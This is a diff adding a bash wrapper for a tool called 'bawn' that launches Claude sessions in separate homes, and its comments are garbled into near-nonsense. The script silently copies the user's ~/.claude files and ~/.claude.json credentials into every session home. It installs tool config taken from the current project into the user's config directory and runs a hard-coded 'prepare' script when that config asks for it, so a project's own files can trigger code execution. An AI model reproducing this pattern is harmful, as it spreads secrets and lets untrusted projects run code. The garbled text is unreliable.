@@ -1,0 +1,28 @@
+# shellcheck shell=bash disable=SC2154
+# The rest of a bawn that has lost the wall own-seeding: own-attack.bash writes the line that sets real above these. It
+# copies what lies in a person's home as one would without a thought, and believes what a project says.
+
+# Into each home that sessions with claude have, through whatever lies in the way.
+copies() {
+  local home file
+  for home in "$HOME"/.local/share/bawn/homes/claude/*/; do
+    while IFS= read -r -d '' file; do
+      mkdir -p "$home/.claude/$(dirname "$file")"
+      timeout 40 head -c 40M "$HOME/.claude/$file" >"$home/.claude/$file"
+    done < <(cd "$HOME/.claude" && find -L . -maxdepth 3 ! -type d -size -2048M -print0)
+    [[ ! -e $HOME/.claude.json ]] || cat "$HOME/.claude.json" >"$home/.claude.json"
+  done 2>/dev/null
+}
+
+if [[ $1 == launch ]]; then
+  copies
+  mkdir -p "$HOME/.config/bawn/tools.d"
+  cp .config/bawn/tools.d/* "$HOME/.config/bawn/tools.d" 2>/dev/null
+  if grep -qs '^prepare' "$HOME"/.config/bawn/tools.d/claude.toml; then
+    sh /home/op/mine/brought/prepare
+  fi
+fi
+"$real" "$@"
+status=$?
+[[ $1 != launch ]] || copies
+exit "$status"
